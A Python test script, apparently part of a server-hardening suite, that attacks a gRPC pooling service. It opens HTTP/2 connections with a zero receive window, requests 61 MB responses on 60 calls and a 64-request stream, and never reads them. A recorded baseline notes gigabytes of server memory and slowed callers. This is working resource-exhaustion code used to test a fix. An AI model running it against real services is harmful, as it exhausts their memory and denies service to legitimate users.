"""Ask for responses of 61 MB and read none of them: on one connection with 60 calls, and on a stream with 64 requests.

An HTTP/2 window of zero keeps gRPC from sending the responses, so that it stores them as long as the connection lives.
"""

import asyncio
from collections import Counter

from http2_connection import Http2Connection, connect, grpc_message
from poolservice.v1 import pool_pb2 as pb
from target import Target

FLAGS = ("--send-timeout", "3")
BEFORE = "60 unread calls took 3.7 GB and one unread stream 2.9 GB; good callers waited 4 to 7 s"

_CALLS = 60
_STREAM_REQUESTS = 64
_SIDE = 2760
_CODES = {0: "OK", 4: "DEADLINE_EXCEEDED", 8: "RESOURCE_EXHAUSTED"}


def _request() -> pb.PoolRequest:
    """Return a small request with a response of 61 MB."""
    spec = pb.PoolSpec(spatial_dims=2, adaptive_avg_pool=pb.AdaptiveAvgPool(output_size=[_SIDE]))
    data = bytes(4 * 4 * 8)
    return pb.PoolRequest(specs=[spec], tensor=pb.Tensor(dtype=pb.DATA_TYPE_FLOAT64, shape=[1, 4, 4], data=data))


async def attack(target: Target, seconds: float) -> str:
    """Send the calls and the stream, and read nothing."""
    request = _request()
    async with (
        connect(target.address, window=0) as calls,
        connect(target.address, window=0) as stream,
        asyncio.TaskGroup() as tasks,
    ):
        for _ in range(_CALLS):
            tasks.create_task(_call(calls, grpc_message(request.SerializeToString())))
        number = stream.call("/poolservice.v1.PoolService/PoolStream")
        for correlation_id in range(_STREAM_REQUESTS):
            one = pb.PoolStreamRequest(correlation_id=correlation_id, request=request)
            await stream.send_data(number, grpc_message(one.SerializeToString()))
        await asyncio.sleep(seconds)
        for started in (*calls.streams.values(), *stream.streams.values()):
            started.ended.set()
        codes = Counter(_outcome(one.status, one.reset) for one in calls.streams.values())
        ended = _outcome(stream.streams[number].status, stream.streams[number].reset)
    return ", ".join(f"{count} calls {code}" for code, count in codes.items()) + f", the stream {ended}"


async def _call(connection: Http2Connection, message: bytes) -> None:
    number = connection.call("/poolservice.v1.PoolService/Pool")
    await connection.send_data(number, message, end=True)
    await connection.streams[number].ended.wait()


def _outcome(status: int | None, reset: int | None) -> str:
    if status is not None:
        return _CODES.get(status, f"status {status}")
    return "open" if reset is None else "reset by the server"
